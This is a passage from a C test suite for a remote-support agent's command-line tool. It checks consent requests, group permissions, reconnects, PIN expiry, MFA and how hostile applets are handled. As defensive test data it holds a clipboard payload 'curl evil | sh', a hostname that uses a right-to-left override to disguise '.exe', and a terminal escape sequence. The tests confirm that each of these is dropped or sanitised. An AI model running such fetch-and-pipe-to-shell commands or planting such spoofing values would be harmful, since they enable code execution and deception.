	g_assert_nonnull(strstr(r.err, "not allowed sysinfo"));
	run_clear(&r);
	f->answer_request = true;
	f->answer_caps = LL_CAP_SYSINFO;
	cli_pumping(&r, f, NULL, profile, "session", "request", p.id,
		    "sysinfo", NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);

	f->sysinfo_raw = SYSINFO_JSON("pc-01" RLO "gpj.exe", "8589934592");
	cli_pumping(&r, f, NULL, profile, "session", "sysinfo", p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_cmpstr(r.out, ==,
			"Computer: pc-01" FFFD "gpj.exe\n"
			"System: Debian GNU/Linux 12\n"
			"Kernel: Linux 6.1.0 x86_64\n"
			"CPU: Ryzen 5 (8 logical CPUs)\n"
			"Memory: 16.0 GiB total, 8.0 GiB available\n"
			"Uptime: 1 d 2 h 3 min\n"
			"Disk /: ext4, 40.0 GiB free of 100.0 GiB\n"
			"Network eth0: 192.0.2.7/24, fe80::1/64\n"
			"Display DP-1: 1920x1080\n");
	assert_nothing_raw(r.out);
	run_clear(&r);
	cli_pumping(&r, f, NULL, profile, "--json", "session", "sysinfo", p.id,
		    NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_nonnull(strstr(r.out, "\"host\":\"pc-01" FFFD "gpj.exe\""));
	g_assert_nonnull(strstr(r.out, "\"memory_free\":8589934592"));
	assert_nothing_raw(r.out);
	run_clear(&r);

	/* clipboard was never granted: dropped, the session goes on */
	fa_raw(f, "{\"type\":\"clipboard\",\"text\":\"curl evil | sh\"}");
	holder_log_has(&p, "clipboard text from the applet without the "
			   "grant: dropped");

	/* free memory over the total: a malformed message ends it */
	f->sysinfo_raw = SYSINFO_JSON("pc-01", "17179869185");
	cli_pumping(&r, f, NULL, profile, "session", "sysinfo", p.id, NULL);
	g_assert_cmpint(r.status, ==, 5);
	g_assert_nonnull(strstr(r.err, "memory_free"));
	run_clear(&r);
	assert_holder_gone(profile, p.id);
	fa_free(f);
	pin_clear(&p);

	/* clipboard text over the cap, even when granted */
	f = sysinfo_session(&p, LL_CAP_SYSINFO);
	{
		char *big = g_strdup_printf("{\"type\":\"clipboard\","
					    "\"text\":\"%0*d\"}",
					    (int)LL_CONTROL_MAX_CLIPBOARD + 1,
					    0);

		fa_raw(f, big);
		g_free(big);
	}
	holder_log_has(&p, "field \"text\" over 16384 bytes");
	assert_holder_gone(profile, p.id);
	fa_free(f);
	pin_clear(&p);
}

static void test_deny(void)
{
	struct pin p = { 0 };
	struct run r = { 0 };
	struct ll_control_msg *m, d = { .type = LL_CONTROL_DENY };
	struct ll_control_msg e = { .type = LL_CONTROL_END };
	char *png = g_build_filename(lh_tmpdir(), "p-deny.png", NULL);
	struct fa *f;

	g_assert_nonnull(profile);
	pin_new(NULL, &p);
	f = fa_join(p.pin);
	m = fa_expect(f, LL_CONTROL_REQUEST);
	/* the default request: view and control */
	g_assert_cmpuint(m->u.request.caps, ==, LL_CAP_VIEW | LL_CAP_CONTROL);
	d.u.deny.id = m->u.request.id;
	ll_control_msg_free(m);
	fa_control(f, &d);

	cli_pumping(&r, f, NULL, profile, "session", "wait", p.id, "--timeout",
		    "20", NULL);
	g_assert_cmpint(r.status, ==, 3);
	g_assert_nonnull(strstr(r.err, "The user denied the request."));
	run_clear(&r);
	cli_pumping(&r, f, NULL, profile, "--json", "session", "snapshot",
		    p.id, png, NULL);
	g_assert_cmpint(r.status, ==, 3);
	g_assert_nonnull(strstr(r.err, "no framebuffer: the user has not "
				       "allowed viewing"));
	g_assert_nonnull(strstr(r.out, "\"code\":\"no_view\""));
	g_assert_false(g_file_test(png, G_FILE_TEST_EXISTS));
	run_clear(&r);

	/* the user ends: the holder goes too */
	e.u.end.reason = "the user ended the session";
	fa_control(f, &e);
	assert_holder_gone(profile, p.id);
	fa_free(f);
	g_free(png);
	pin_clear(&p);
}

/*
 * `session request` waits for the user's answer: ok (or what part was
 * allowed, View only), and for each kind of no its own plain sentence
 * and exit status: declined 3, held back 7, no more 8.
 */
static void request_answered(struct fa *f, const char *id, const char *cap,
			     uint32_t grant, enum ll_deny_reason why,
			     uint32_t retry, int status, const char *says)
{
	struct run r = { 0 };

	f->answer_request = true;
	f->answer_caps = grant;
	f->answer_reason = why;
	f->answer_retry = retry;
	cli_pumping(&r, f, NULL, profile, "session", "request", id, cap, NULL);
	g_assert_false(f->answer_request); /* it waited for the answer */
	g_assert_cmpint(r.status, ==, status);
	g_assert_nonnull(strstr(status == 0 ? r.out : r.err, says));
	/* the sentence is the applet's reason in words, not a code */
	if (status != 0)
		g_assert_cmpstr(r.out, ==, "");
	run_clear(&r);
}

static void test_request_answers(void)
{
	struct pin p = { 0 };
	struct run r = { 0 };
	struct ll_control_msg *m, e = { .type = LL_CONTROL_END };
	struct fa *f;

	g_assert_nonnull(profile);
	pin_new("view", &p);
	f = fa_join(p.pin);
	m = fa_expect(f, LL_CONTROL_REQUEST);
	fa_grant(f, m->u.request.id, LL_CAP_VIEW);
	ll_control_msg_free(m);

	/* View only: asked view and control, allowed view */
	request_answered(f, p.id, "view,control", LL_CAP_VIEW, 0, 0, 0,
			 "ok, partly; allowed: view\n");
	g_assert_cmpuint(f->asked_caps, ==, LL_CAP_VIEW | LL_CAP_CONTROL);
	cli_pumping(&r, f, NULL, profile, "session", "click", p.id, "1", "1",
		    NULL);
	g_assert_cmpint(r.status, ==, 3); /* no control with View only */
	run_clear(&r);
	request_answered(f, p.id, "control", 0, LL_DENY_DECLINED, 30, 3,
			 "The user declined; you can ask again in 30 s.");
	request_answered(f, p.id, "control", 0, LL_DENY_HELD_BACK, 25, 7,
			 "The user declined; you can ask again in 25 s.");
	request_answered(f, p.id, "control", 0, LL_DENY_NO_MORE, 0, 8,
			 "The user declined three times; no more requests "
			 "in this session.");
	request_answered(f, p.id, "control", 0, LL_DENY_UNSAID, 0, 3,
			 "The user denied the request.");
	e.u.end.reason = "the user ended the session";
	fa_control(f, &e);
	assert_holder_gone(profile, p.id);
	fa_free(f);
	pin_clear(&p);
}

/*
 * A technician whose group permits view and chat: the login keeps them
 * in the profile, and `session request` of anything else is refused
 * there (exit 9, capability_not_permitted) without a word to the applet;
 * what the group permits is asked as ever.
 */
static void test_not_permitted(void)
{
	char *saved = profile, *ini, *text = NULL, *ended, *why = NULL;
	char *pw_line = g_strdup_printf("%s\n", TECH_PW);
	struct ll_control_msg *m;
	struct pin p = { 0 };
	struct run r = { 0 };
	struct fa *f;

	g_assert_cmpint(lh_relay_cmd(relay, NULL, NULL, NULL, "group", "add",
				     "viewers", "--permissions", "view,chat",
				     NULL),
			==, 0);
	lh_tech_add(relay, "vera", TECH_PW, false);
	g_assert_cmpint(lh_relay_cmd(relay, NULL, NULL, NULL, "technician",
				     "set", "vera", "--group", "viewers",
				     NULL),
			==, 0);
	profile = new_profile("p-viewers");
	cli(&r, profile, pw_line, "login", "--user", "vera",
	    "--password-stdin", NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	ini = g_build_filename(profile, "profile.ini", NULL);
	g_assert_true(g_file_get_contents(ini, &text, NULL, NULL));
	g_assert_nonnull(strstr(text, "capabilities=view,chat"));

	/* a PIN whose first request the group does not permit: none */
	cli(&r, profile, NULL, "pin", "new", "--request", "view,control",
	    NULL);
	g_assert_cmpint(r.status, ==, 9);
	g_assert_nonnull(strstr(r.err, "your group does not permit control"));
	g_assert_cmpstr(r.out, ==, "");
	run_clear(&r);

	/* no --request: the default view and control narrowed to what
	 * the group permits, so the applet is asked for view alone */
	pin_new(NULL, &p);
	f = fa_join(p.pin);
	m = fa_expect(f, LL_CONTROL_REQUEST);
	g_assert_cmpuint(m->u.request.caps, ==, LL_CAP_VIEW);
	ll_control_msg_free(m);
	fa_free(f);
	cli(&r, profile, NULL, "session", "end", p.id, NULL);
	run_clear(&r);
	pin_clear(&p);

	pin_new("view", &p);
	f = fa_join(p.pin);
	m = fa_expect(f, LL_CONTROL_REQUEST);
	fa_grant(f, m->u.request.id, LL_CAP_VIEW);
	ll_control_msg_free(m);

	cli_pumping(&r, f, NULL, profile, "session", "request", p.id,
		    "view,control", NULL);
	g_assert_cmpint(r.status, ==, 9);
	g_assert_nonnull(strstr(r.err, "your group does not permit control"));
	run_clear(&r);
	cli_pumping(&r, f, NULL, profile, "--json", "session", "request", p.id,
		    "files", NULL);
	g_assert_cmpint(r.status, ==, 9);
	g_assert_nonnull(
		strstr(r.out, "\"code\":\"capability_not_permitted\""));
	run_clear(&r);
	/* chat is permitted: asked, and the first request the applet
	 * sees (neither refused one was sent) */
	request_answered(f, p.id, "chat", LL_CAP_CHAT, 0, 0, 0, "ok");
	g_assert_cmpuint(f->asked_caps, ==, LL_CAP_CHAT);

	/* the group loses chat: the relay ends the session, and the
	 * holder records why in plain words */
	g_assert_cmpint(lh_relay_cmd(relay, NULL, NULL, NULL, "group", "set",
				     "viewers", "--permissions", "view", NULL),
			==, 0);
	assert_holder_gone(profile, p.id);
	ended = g_strdup_printf("%s/%s.ended", profile, p.id);
	g_assert_true(g_file_get_contents(ended, &why, NULL, NULL));
	g_assert_cmpstr(why, ==,
			"The relay ended the session: your group no longer "
			"permits what it was allowed");
	fa_free(f);
	pin_clear(&p);
	g_free(ended);
	g_free(why);
	g_free(text);
	g_free(ini);
	g_free(pw_line);
	g_free(profile);
	profile = saved;
}

static void test_timeout_and_end_unjoined(void)
{
	struct pin p = { 0 };
	struct run r = { 0 };
	char *logp;
	char *log = NULL, *token = NULL, *tok_path;

	g_assert_nonnull(profile);
	pin_new(NULL, &p);
	cli(&r, profile, NULL, "session", "wait", p.id, "--timeout", "1",
	    NULL);
	g_assert_cmpint(r.status, ==, 4);
	g_assert_nonnull(strstr(r.err, "timed out"));
	run_clear(&r);

	/* bad id and unknown id */
	cli(&r, profile, NULL, "session", "wait", "../x", NULL);
	g_assert_cmpint(r.status, ==, 2);
	run_clear(&r);
	cli(&r, profile, NULL, "session", "wait",
	    "00000000000000000000000000000000", NULL);
	g_assert_cmpint(r.status, ==, 5);
	run_clear(&r);

	cli(&r, profile, NULL, "session", "end", p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	assert_holder_gone(profile, p.id);

	/* the holder's log holds no token */
	logp = g_strdup_printf("%s/%s.log", profile, p.id);
	tok_path = g_build_filename(profile, "token", NULL);
	g_assert_true(g_file_get_contents(tok_path, &token, NULL, NULL));
	if (g_file_get_contents(logp, &log, NULL, NULL)) {
		g_assert_null(strstr(log, token));
		g_assert_null(strstr(log, p.pin));
	}
	g_free(log);
	g_free(logp);
	g_free(token);
	g_free(tok_path);
	pin_clear(&p);
}

/*
 * Coming back (issue 9.2): the applet's stream breaks without a goodbye
 * (no close_notify: a loss, the relay keeps the session in its grace);
 * the holder says it reconnects and reopens its side with its ticket;
 * the applet comes back with its own.  On the new stream the holder says
 * hello but never its first request again, and takes the applet's grant
 * id 0 only as far as it had it before the loss: view, not the control
 * the grant also names.
 */
static void test_reconnect(void)
{
	struct pin p = { 0 };
	struct run r = { 0 };
	struct ll_control_msg *m;
	struct fa *f;
	char *ticket, *logp;
	GList *l;

	g_assert_nonnull(profile);
	pin_new("view", &p);
	logp = g_strdup_printf("%s/%s.log", profile, p.id);
	ticket = lh_redeem(relay, p.pin, NULL);
	f = fa_join_ticket(ticket);
	m = fa_expect(f, LL_CONTROL_REQUEST);
	fa_grant(f, m->u.request.id, LL_CAP_VIEW);
	ll_control_msg_free(m);
	cli_pumping(&r, f, NULL, profile, "session", "wait", p.id, "--timeout",
		    "20", NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_cmpstr(r.out, ==, "view\n");
	run_clear(&r);

	/* the applet's side breaks: no end, no close_notify */
	fa_free(f);
	g_assert_true(lt_wait_file(logp, 0,
				   "reconnecting\u2026 (connection "
				   "lost",
				   1, 10000));
	cli(&r, profile, NULL, "session", "status", p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_nonnull(strstr(r.out, "(Connection interrupted"));
	run_clear(&r);

	/* back with the applet's own ticket: the holder is there too */
	f = fa_join_ticket(ticket);
	m = fa_expect(f, LL_CONTROL_HELLO);
	ll_control_msg_free(m);
	fa_grant(f, LL_CONTROL_GRANT_RESUMED, LL_CAP_VIEW | LL_CAP_CONTROL);
	cli_pumping(&r, f, NULL, profile, "session", "status", p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_true(g_str_has_prefix(r.out, "viewing\n"));
	g_assert_null(strstr(r.out, "control"));
	run_clear(&r);
	g_assert_true(lt_wait_file(logp, 0,
				   "which was not granted before: "
				   "ignored",
				   1, 5000));
	g_assert_true(lt_wait_file(logp, 0,
				   "still allowed after the "
				   "reconnect: view",
				   1, 5000));
	/* the first request is not asked again */
	for (l = f->msgs.head; l != NULL; l = l->next)
		g_assert_cmpint(((struct ll_control_msg *)l->data)->type, !=,
				LL_CONTROL_REQUEST);

	cli_pumping(&r, f, NULL, profile, "session", "end", p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	assert_holder_gone(profile, p.id);
	fa_free(f);
	g_free(ticket);
	g_free(logp);
	pin_clear(&p);
}

/*
 * Nobody enters the PIN in time: the relay ends the session and closes
 * the holder's stream without a word; the CLI says the true reason, not
 * "connection lost".  Moves the relay's clock past the PIN's lifetime
 * (1200 s by default; the login token's 12 h stay valid): the last test.
 */
static void test_pin_expired(void)
{
	struct pin p = { 0 };
	struct run r = { 0 };

	g_assert_nonnull(profile);
	pin_new(NULL, &p);
	if (!lh_relay_clock_advance(relay, 1300)) {
		g_test_skip("needs -Dtest_hooks=true (the relay's clock)");
		pin_clear(&p);
		return;
	}
	/* waits for the relay's sweep to end the session (once a second) */
	cli(&r, profile, NULL, "session", "wait", p.id, "--timeout", "30",
	    NULL);
	g_test_message("session wait: status %d: %s", r.status, r.err);
	g_assert_cmpint(r.status, ==, 5);
	g_assert_nonnull(
		strstr(r.err, "The PIN expired before the user entered it"));
	g_assert_null(strstr(r.err, "connection lost"));
	run_clear(&r);
	assert_holder_gone(profile, p.id);
	pin_clear(&p);
}

/*
 * A hostile applet answers with an encoding the agent does not use
 * (Hextile): the RFB filter on channel 1 ends the session with its reason
 * before libvncclient's decoder sees a byte of it; the CLI says so, the
 * applet gets an error, the holder goes.  The applet's bytes come in
 * 5-byte frames, so the bridge holds back incomplete headers.
 */
static void test_forbidden_encoding(void)
{
	struct pin p = { 0 };
	struct run r = { 0 };
	struct ll_control_msg *m;
	struct fa *f;
	char *png = g_build_filename(lh_tmpdir(), "p-bad.png", NULL);
	char *logp, *log = NULL;
	int64_t end;

	g_assert_nonnull(profile);
	pin_new("view", &p);
	f = fa_join(p.pin);
	m = fa_expect(f, LL_CONTROL_REQUEST);
	fa_grant(f, m->u.request.id, LL_CAP_VIEW);
	ll_control_msg_free(m);
	cli_pumping(&r, f, NULL, profile, "session", "wait", p.id, "--timeout",
		    "20", NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);

	f->bad_enc = 5;
	f->dribble = 5; /* the handshake passes the filter in pieces */
	fa_rfb_open(f);
	/* the snapshot waits for a picture; the bad one comes meanwhile */
	f->serve_after = lh_now_ms() + 1500;
	cli_pumping(&r, f, NULL, profile, "session", "snapshot", p.id, png,
		    NULL);
	g_assert_cmpint(r.status, ==, 5);
	g_assert_nonnull(strstr(r.err, "the remote side sent RFB data "
				       "outside what we allow"));
	g_assert_nonnull(strstr(r.err, "encoding 5 (Hextile) is not "
				       "allowed"));
	g_assert_false(g_file_test(png, G_FILE_TEST_EXISTS));
	run_clear(&r);

	/* the applet hears of it (ERROR frame), the holder is gone */
	end = lh_now_ms() + 5000;
	while (!f->closed && lh_now_ms() < end)
		fa_pump(f, 50);
	g_assert_true(f->closed);
	assert_holder_gone(profile, p.id);
	logp = g_strdup_printf("%s/%s.log", profile, p.id);
	g_assert_true(g_file_get_contents(logp, &log, NULL, NULL));
	/* the orderly path: the holder logged why it ended */
	g_assert_nonnull(strstr(log, "ended by an error (the remote side "
				     "sent RFB data outside what we allow"));

	g_free(log);
	g_free(logp);
	fa_free(f);
	g_free(png);
	pin_clear(&p);
}

/*
 * The channel queue: a user joins with the channel's credential, `queue
 * list` shows them, `queue pickup` prints the new session and its holder
 * asks the (stand-in) applet for consent on the stream the queue ticket
 * opens; a second pickup of the same entry is refused.
 */
static void test_queue(void)
{
	g_autofree char *cred = NULL, *entry = NULL, *ticket = NULL;
	g_autofree char *id = NULL;
	json_t *body, *j;
	struct lh_resp *resp;
	struct run r = { 0 };
	struct ll_control_msg *m;
	struct fa *f;

	g_assert_nonnull(profile);
	g_assert_cmpint(lh_relay_cmd(relay, NULL, &cred, NULL, "channel",
				     "add", "desk", NULL),
			==, 0);
	g_strstrip(cred);
	lh_secret("channel credential", cred);
	body = json_pack("{s:s,s:s}", "credential", cred, "description",
			 "printer\x1b[2J jammed");
	resp = lh_post(relay, "/api/v1/channels/join", NULL, body);
	json_decref(body);
	g_assert_cmpint(resp->status, ==, 201);
	entry = g_strdup(lh_resp_str(resp, "entry_id"));
	ticket = g_strdup(lh_resp_str(resp, "ticket"));
	lh_secret("queue ticket", ticket);
	lh_resp_free(resp);

	cli(&r, profile, NULL, "queue", "list", NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_nonnull(strstr(r.out, entry));
	g_assert_nonnull(strstr(r.out, " desk "));
	/* the escape arrives as U+FFFD, never as a byte for the terminal */
	g_assert_null(strchr(r.out, 0x1b));
	g_assert_nonnull(strstr(r.out, "printer\xef\xbf\xbd[2J jammed"));
	run_clear(&r);
	cli(&r, profile, NULL, "--json", "queue", "list", NULL);
	g_assert_cmpint(r.status, ==, 0);
	j = json_loads(r.out, 0, NULL);
	g_assert_nonnull(j);
	g_assert_cmpuint(json_array_size(json_object_get(j, "entries")), ==,
			 1);
	json_decref(j);
	run_clear(&r);

	cli(&r, profile, NULL, "queue", "pickup", entry, NULL);
	g_assert_cmpint(r.status, ==, 0);
	id = g_strdup(g_strstrip(r.out));
	g_assert_cmpuint(strlen(id), ==, 32);
	run_clear(&r);
	/* first one wins */
	cli(&r, profile, NULL, "queue", "pickup", entry, NULL);
	g_assert_cmpint(r.status, !=, 0);
	g_assert_nonnull(strstr(r.err, "already picked"));
	run_clear(&r);
	cli(&r, profile, NULL, "queue", "list", NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_null(strstr(r.out, entry));
	run_clear(&r);

	/* the waiting applet learns it and opens the session's stream */
	resp = lh_get(relay, "/api/v1/queue/entry", ticket);
	g_assert_cmpint(resp->status, ==, 200);
	g_assert_cmpstr(lh_resp_str(resp, "state"), ==, "picked");
	g_assert_cmpstr(lh_resp_str(resp, "session_id"), ==, id);
	lh_resp_free(resp);
	f = fa_join_ticket(ticket);
	m = fa_expect(f, LL_CONTROL_REQUEST);
	g_assert_cmpuint(m->u.request.caps, ==, LL_CAP_VIEW | LL_CAP_CONTROL);
	ll_control_msg_free(m);
	cli(&r, profile, NULL, "session", "end", id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	assert_holder_gone(profile, id);
	fa_free(f);
}

/* oathtool --totp -b SEED at unix time t (an implementation other than
 * the relay's). */
static char *oathtool_code(const char *b32, int64_t t)
{
	char now[32], *out = NULL;
	char *argv[] = { "oathtool", "--totp", "-b", (char *)b32,
			 "-N",       now,      NULL };
	int status = -1;

	snprintf(now, sizeof(now), "@%lld", (long long)t);
	g_assert_true(g_spawn_sync(NULL, argv, NULL, G_SPAWN_SEARCH_PATH, NULL,
				   NULL, &out, NULL, &status, NULL));
	g_assert_cmpint(status, ==, 0);
	return g_strchomp(out);
}

/*
 * The second factor from the CLI, on a relay of its own (many logins
 * in a row: its login rate is opened up): `mfa enroll` prints the URI,
 * `mfa confirm CODE` the 10 recovery codes; then login answers
 * mfa_required without --code, logs in with one, and with a recovery
 * code read from stdin after the password.
 */
static void test_mfa(void)
{
	struct lh_relay *saved = relay, *mr;
	char *saved_url = relay_url, *prof = new_profile("p-mfa");
	g_autofree char *b32 = NULL, *code = NULL, *both = NULL;
	g_auto(GStrv) lines = NULL;
	const char *p;
	struct run r = { 0 };
	char *pw_line = g_strdup_printf("%s\n", TECH_PW);

	mr = lh_relay_new("agent-mfa", "login_rate_per_min=100000\n"
				       "login_burst=100000\n");
	lh_relay_start(mr);
	relay = mr;
	relay_url = g_strdup_printf("https://127.0.0.1:%u", mr->port);
	lh_tech_add(mr, "mara", TECH_PW, false);

	cli(&r, prof, pw_line, "login", "--user", "mara", "--password-stdin",
	    NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	cli(&r, prof, NULL, "mfa", "confirm", "123456", NULL);
	g_assert_cmpint(r.status, !=, 0);
	g_assert_nonnull(strstr(r.err, "mfa/enroll"));
	run_clear(&r);

	cli(&r, prof, NULL, "mfa", "enroll", NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_true(g_str_has_prefix(r.out, "otpauth://totp/Lifeline:"));
	p = strstr(r.out, "secret=");
	g_assert_nonnull(p);
	b32 = g_strndup(p + 7, strcspn(p + 7, "&\n"));
	lh_secret("seed", b32);
	run_clear(&r);

	code = oathtool_code(b32, (int64_t)time(NULL) + mr->clock_offset);
	cli(&r, prof, NULL, "mfa", "confirm", code, NULL);
	g_assert_cmpint(r.status, ==, 0);
	lines = g_strsplit(g_strchomp(r.out), "\n", -1);
	g_assert_cmpuint(g_strv_length(lines), ==, 10);
	for (guint i = 0; i < 10; i++) {
		g_assert_cmpuint(strlen(lines[i]), ==, 11);
		lh_secret("recovery", lines[i]);
	}
	g_assert_nonnull(strstr(r.err, "recovery codes"));
	run_clear(&r);

	/* login: the code is asked for, then taken (a later step than the
	 * one confirm used). */
	cli(&r, prof, pw_line, "login", "--user", "mara", "--password-stdin",
	    NULL);
	g_assert_cmpint(r.status, ==, 6);
	g_assert_nonnull(strstr(r.err, "--code"));
	run_clear(&r);
	g_free(code);
	code = oathtool_code(b32, (int64_t)time(NULL) + mr->clock_offset + 30);
	cli(&r, prof, pw_line, "login", "--user", "mara", "--password-stdin",
	    "--code", code, NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_true(g_str_has_prefix(r.out, "logged in as "));
	run_clear(&r);
	/* the same code again: refused */
	cli(&r, prof, pw_line, "login", "--user", "mara", "--password-stdin",
	    "--code", code, NULL);
	g_assert_cmpint(r.status, ==, 6);
	run_clear(&r);

	/* a recovery code: from stdin, after the password's line */
	both = g_strdup_printf("%s\n%s\n", TECH_PW, lines[3]);
	cli(&r, prof, both, "login", "--user", "mara", "--password-stdin",
	    "--recovery-code-stdin", NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_true(g_str_has_prefix(r.out, "logged in as "));
	run_clear(&r);
	cli(&r, prof, both, "login", "--user", "mara", "--password-stdin",
	    "--recovery-code-stdin", NULL);
	g_assert_cmpint(r.status, ==, 6);
	g_assert_null(strstr(r.err, lines[3]));
	run_clear(&r);

	lh_relay_stop(mr, 5000);
	lh_relay_free(mr);
	g_free(relay_url);
	relay = saved;
	relay_url = saved_url;
	g_free(pw_line);
	g_free(prof);
}

int main(int argc, char **argv)
{
	int rc;

	lh_init(&argc, &argv);
	g_assert_nonnull(g_getenv("LL_AGENT_BIN"));
	relay = lh_relay_new("agent-cli", NULL);
	lh_relay_start(relay);
	relay_url = g_strdup_printf("https://127.0.0.1:%u", relay->port);
	lh_tech_add(relay, TECH, TECH_PW, false);
	lh_secret("password", TECH_PW);

	g_test_add_func("/agent/cli/login", test_login);
	g_test_add_func("/agent/cli/password_change", test_password_change);
	g_test_add_func("/agent/cli/mfa", test_mfa);
	g_test_add_func("/agent/cli/view_then_control",
			test_view_then_control);
	g_test_add_func("/agent/cli/deny", test_deny);
	g_test_add_func("/agent/cli/request_answers", test_request_answers);
	g_test_add_func("/agent/cli/not_permitted", test_not_permitted);
	g_test_add_func("/agent/cli/monitors", test_monitors);
	g_test_add_func("/agent/cli/hostile_names", test_hostile_names);
	g_test_add_func("/agent/cli/hostile_file", test_hostile_file);
	g_test_add_func("/agent/cli/hostile_send", test_hostile_send);
	g_test_add_func("/agent/cli/sysinfo", test_sysinfo);
	g_test_add_func("/agent/cli/forbidden_encoding",
			test_forbidden_encoding);
	g_test_add_func("/agent/cli/timeout_and_end_unjoined",
			test_timeout_and_end_unjoined);
	g_test_add_func("/agent/cli/queue", test_queue);
	/* last: it moves the relay's clock */
	g_test_add_func("/agent/cli/reconnect", test_reconnect);
	g_test_add_func("/agent/cli/pin_expired", test_pin_expired);
	rc = g_test_run();
	lh_relay_stop(relay, 5000);
	lh_relay_free(relay);
	g_free(relay_url);
	g_free(profile);
	return rc;
}
